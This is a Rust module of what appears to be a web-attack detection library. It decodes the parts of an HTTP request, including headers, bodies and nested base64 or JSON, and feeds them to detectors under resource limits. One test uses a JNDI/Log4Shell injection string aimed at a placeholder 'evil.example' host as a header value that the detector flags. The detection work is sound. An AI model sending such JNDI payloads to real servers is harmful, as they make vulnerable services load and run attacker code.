//! From an exchange to the texts in it, and from a text to what it reads after decoding.
//!
//! ```text
//!  roots      the places of a message, as its parsers give them: path, query, headers, cookies, fields, leaves
//!  body       the body, read by what it says it is, and by what it looks like
//!  readings   one text in its other forms: percent-encoded once more, base64, JSON in a string, ...
//! ```
//!
//! Each reading is looked at beside the text that it was made of, and is read again itself: a payload shows in the form
//! in which its interpreter will see it, and we do not know how many layers are in between. Readings are guesses: one that
//! makes no sense (base64 of a word) is not made. All of it is under [`DetectLimits`].

mod body;
mod readings;
mod roots;

pub use body::BodyForm;
pub(crate) use body::BodyReader;
pub(crate) use roots::Roots;

use palisade_codec::ByteSet;
use palisade_http::is_recurring_header;
use palisade_model::{Part, Point, PointPattern, Root};

use self::readings::{Form, Reading};
use crate::detection::WORD;
use crate::detectors::{DETECTORS, Evidence, Findings, graphql};
use crate::recall::{CleanTexts, Cost};
use crate::{Attack, Confidence, Decoding, DetectLimits, Finding, FindingPoint, Spent, Step, Value};

/// What one exchange has found and spent so far.
#[derive(Debug)]
pub(crate) struct Descent {
    pub(crate) limits: DetectLimits,
    pub(crate) spent: Spent,
    pub(crate) findings: Findings,
    /// What is remembered, while it is at work.
    pub(crate) clean_texts: Option<CleanTexts>,
    /// Points of which somebody wants to know whether they are there, and the first that was.
    pub(crate) watched: Vec<(PointPattern, Option<FindingPoint>)>,
}

/// Whether a text is digits with single dots in between: a version, an address. Nobody reads code in that.
fn is_dotted_number(text: &[u8]) -> bool {
    text.len() <= DOTTED_BYTES_MAX
        && text
            .split(|byte| *byte == b'.')
            .all(|digits| !digits.is_empty() && digits.iter().all(u8::is_ascii_digit))
}

/// `255.255.255.255`.
const DOTTED_BYTES_MAX: usize = 15;

/// Whether a text is an id as RFC 9562 writes it, in small letters. As base64 it is no text: the first dash gives a byte
/// that UTF-8 does not have.
fn is_uuid(text: &[u8]) -> bool {
    text.len() == 36
        && text.iter().enumerate().all(|(at, byte)| match at {
            8 | 13 | 18 | 23 => *byte == b'-',
            _ => matches!(byte, b'0'..=b'9' | b'a'..=b'f'),
        })
}

/// Bytes that two windows of a long text share: no payload's telling part is longer.
const WINDOW_OVERLAP_BYTES: usize = 2048;

/// Bytes of a place in a decode path. A longer one is cut: it is for people.
const STEP_BYTES_MAX: usize = 256;

/// A text of letters and digits that is shorter holds nothing encoded that could matter.
const ENCODED_BYTES_MIN: usize = 12;

impl Descent {
    pub(crate) fn new(limits: DetectLimits) -> Self {
        let findings = Findings::new(limits.findings_max);
        Self { limits, spent: Spent::default(), findings, clean_texts: None, watched: Vec::new() }
    }

    pub(crate) fn findings(&self) -> &[Finding] {
        self.findings.as_slice()
    }

    /// Looks at a text and all its readings.
    pub(crate) fn look(&mut self, point: Point<'_>, bytes: &[u8]) {
        self.meet(point);
        self.text(point, &mut Vec::new(), bytes);
    }

    /// Looks at the value of a header; not again at one that recurs by its kind and held nothing when it came before.
    pub(crate) fn look_at_header(&mut self, name: &[u8], value: &[u8]) {
        let point = Point { root: Root::Header, part: Part::Value, path: name };
        self.meet(point);
        let Some(texts) = self.clean_texts.take_if(|_| is_recurring_header(name)) else {
            return self.look(point, value);
        };
        let known = texts.find(name, value);
        self.clean_texts = Some(texts);
        if known.is_some_and(|cost| cost.spend(&mut self.spent, &self.limits)) {
            return;
        }
        let before = self.spent.clone();
        self.look(point, value);
        if let Some(texts) = &mut self.clean_texts
            && let Some(cost) = Cost::between(&before, &self.spent)
            && self.findings.as_slice().is_empty()
        {
            texts.keep(name, value, cost);
        }
    }

    /// Notes that a point is there, for whoever watches it.
    pub(crate) fn meet(&mut self, point: Point<'_>) {
        for (pattern, met) in &mut self.watched {
            if met.is_none() && pattern.matches(&point) {
                *met = Some(point.into());
            }
        }
    }

    /// Looks at the values of one name as one text.
    pub(crate) fn look_joined(&mut self, point: Point<'_>, bytes: &[u8]) {
        self.under(&mut Vec::new(), Decoding::Joined, b"", |descent, steps| {
            descent.text(point, steps, bytes)
        });
    }

    fn text(&mut self, point: Point<'_>, steps: &mut Vec<Step>, bytes: &[u8]) {
        // Most values of most requests are a word, a number or an id.
        if bytes.len() < ENCODED_BYTES_MIN
            && bytes.iter().all(|byte| WORD.contains(*byte))
            && !readings::may_be_short_base64(bytes)
            || is_dotted_number(bytes)
            || is_uuid(bytes)
        {
            self.spent.values += 1;
            return;
        }
        if self.spent.values >= self.limits.values_max {
            return self.met("values_max", point);
        }
        if self.spent.work_bytes >= self.limits.work_bytes_max {
            return self.met("work_bytes_max", point);
        }
        self.spent.values += 1;
        self.spent.work_bytes += bytes.len();
        let set = ByteSet::of(bytes);
        for reading in readings::WHOLE.iter().filter(|reading| reading.gate.intersects(&set)) {
            if self.reading(reading, point, steps, bytes, &set) {
                return;
            }
        }
        let window = self.limits.window_bytes.max(2 * WINDOW_OVERLAP_BYTES);
        if bytes.len() <= window {
            return self.window(point, steps, bytes, &set);
        }
        // One long text is many short ones.
        let mut start = 0;
        loop {
            let end = bytes.len().min(start + window);
            let part = &bytes[start..end];
            self.window(point, steps, part, &ByteSet::of(part));
            if end == bytes.len() {
                return;
            }
            start += window - WINDOW_OVERLAP_BYTES;
        }
    }

    /// Puts a text to the detectors, and then its readings.
    fn window(&mut self, point: Point<'_>, steps: &mut Vec<Step>, bytes: &[u8], set: &ByteSet) {
        let value = Value { point, decoded: steps, bytes, set };
        for detector in DETECTORS.iter().filter(|detector| detector.gate.intersects(set)) {
            (detector.look)(&value, &mut Evidence { detector, value: &value, findings: &mut self.findings });
        }
        for reading in readings::LOCAL.iter().filter(|reading| reading.gate.intersects(set)) {
            self.reading(reading, point, steps, bytes, set);
        }
    }

    /// Looks at one reading of a text. Whether there is nothing else in the text.
    fn reading(
        &mut self,
        reading: &Reading,
        point: Point<'_>,
        steps: &mut Vec<Step>,
        bytes: &[u8],
        set: &ByteSet,
    ) -> bool {
        let made = (reading.read)(bytes, set, &self.limits);
        if let Some(limit) = made.met {
            self.met(limit, point);
        }
        if let Some(noted) = made.noted {
            self.findings.note(noted, point, steps, bytes);
        }
        if reading.decoding == Decoding::GraphQl && !matches!(made.form, Form::None) {
            self.spent.graphql_documents += 1;
            if let Some(noted) = graphql::judge_batch(self.spent.graphql_documents, &self.limits) {
                self.findings.note(noted, point, steps, bytes);
            }
        }
        let (length, whole) = match &made.form {
            Form::None => return false,
            Form::Text(text) => (text.len(), false),
            Form::Places { fields, whole } => (fields.byte_count(), *whole),
        };
        if steps.len() >= self.limits.depth_max {
            self.met("depth_max", point);
            return false;
        }
        if self.spent.decoded_bytes + length > self.limits.decoded_bytes_max {
            self.met("decoded_bytes_max", point);
            return false;
        }
        self.spent.decoded_bytes += length;
        let decoding = reading.decoding;
        match made.form {
            Form::None => {}
            Form::Text(text) => {
                self.under(steps, decoding, b"", |descent, steps| descent.text(point, steps, &text))
            }
            Form::Places { fields, .. } => {
                let mut names = roots::NewNames::default();
                for (path, value) in fields.iter() {
                    self.under(steps, decoding, path, |descent, steps| {
                        // Names of the others are none that anybody could choose freely.
                        if decoding == Decoding::Json {
                            let named = Point { part: Part::Name, ..point };
                            names.each(path, |name| descent.text(named, steps, name));
                        }
                        descent.text(point, steps, value);
                    });
                }
            }
        }
        whole
    }

    /// Does something below a decoding.
    fn under(
        &mut self,
        steps: &mut Vec<Step>,
        decoding: Decoding,
        at: &[u8],
        inner: impl FnOnce(&mut Self, &mut Vec<Step>),
    ) {
        let at = String::from_utf8_lossy(&at[..at.len().min(STEP_BYTES_MAX)]).into();
        steps.push(Step { decoding, at });
        inner(self, steps);
        steps.pop();
    }

    /// Notes a bound that was met, as a finding of its own the first time.
    pub(crate) fn met(&mut self, limit: &'static str, point: Point<'_>) {
        if self.spent.limits_met.contains(&limit) {
            return;
        }
        self.spent.met(limit);
        self.findings.add(Finding {
            attack: Attack::InspectionLimit,
            detector: "inspection-limit",
            confidence: Confidence::HINT,
            point: point.into(),
            decode_path: Vec::new(),
            excerpt: Vec::new(),
            why: format!("{limit} was met; what lies beyond it was not looked at"),
        });
    }
}

#[cfg(test)]
mod tests {
    use palisade_model::Attack;

    use super::*;
    use crate::{detect_with, detectors};

    /// What is passed over as an id or a number would have been no finding, and no reading of it one either.
    #[test]
    fn ids_and_numbers_hold_nothing() {
        let mut state = 1_u64;
        let mut next = |most: u64| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) % most
        };
        let mut texts: Vec<Vec<u8>> = Vec::new();
        for _ in 0..3_000 {
            let digit = |at: usize, digit: u64| match at {
                8 | 13 | 18 | 23 => b'-',
                _ => b"0123456789abcdef"[digit as usize],
            };
            texts.push((0..36).map(|at| digit(at, next(16))).collect());
            let numbers: Vec<String> = (0..=next(4)).map(|_| next(1_000).to_string()).collect();
            texts.push(numbers.join(".").into_bytes());
        }
        texts.extend(["169.254.169.254", "127.0.0.1", "0.0.0.0", "1"].map(|text| text.as_bytes().to_vec()));
        for text in &texts {
            let shown = String::from_utf8_lossy(text);
            assert!(is_uuid(text) || is_dotted_number(text), "{shown}");
            for detector in 0..detectors().len() {
                assert!(detect_with(detector, text).is_empty(), "{shown}");
            }
            let set = ByteSet::of(text);
            for reading in
                readings::WHOLE.iter().chain(readings::LOCAL).filter(|reading| reading.gate.intersects(&set))
            {
                let made = (reading.read)(text, &set, &DetectLimits::default());
                assert!(
                    matches!(made.form, Form::None) && made.noted.is_none(),
                    "{shown} as {:?}",
                    reading.decoding
                );
            }
        }
        for text in [
            "1..2",
            ".1",
            "1.",
            "",
            "1.1.1.1.1.1.1.1.1",
            "1.a",
            "00000000-0000-0000-0000-00000000000g",
            "0000000000000000000000000000000000000",
        ] {
            assert!(!is_uuid(text.as_bytes()) && !is_dotted_number(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn a_clean_header_is_looked_at_once_and_counts_each_time() {
        let agent = b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0";
        let fresh =
            || Descent { clean_texts: Some(CleanTexts::default()), ..Descent::new(DetectLimits::default()) };
        let mut descent = fresh();
        descent.look_at_header(b"user-agent", agent);
        let spent = descent.spent.clone();
        let known = descent.clean_texts.as_ref().and_then(|texts| texts.find(b"user-agent", agent));
        assert_eq!(known.map(|cost| cost.work_bytes), Some(spent.work_bytes));
        descent.look_at_header(b"user-agent", agent);
        assert_eq!(
            (descent.spent.values, descent.spent.work_bytes),
            (2 * spent.values, 2 * spent.work_bytes)
        );
        // Neither what something was found in, nor what people write.
        let mut descent = fresh();
        descent.look_at_header(b"referer", b"https://shop.example.com/a?token=1");
        descent.look_at_header(b"user-agent", b"${jndi:ldap://evil.example/a}");
        assert_eq!(descent.findings()[0].attack, Attack::Jndi);
        let texts = descent.clean_texts.unwrap();
        assert_eq!(texts.find(b"referer", b"https://shop.example.com/a?token=1"), None);
        assert_eq!(texts.find(b"user-agent", b"${jndi:ldap://evil.example/a}"), None);
    }
}
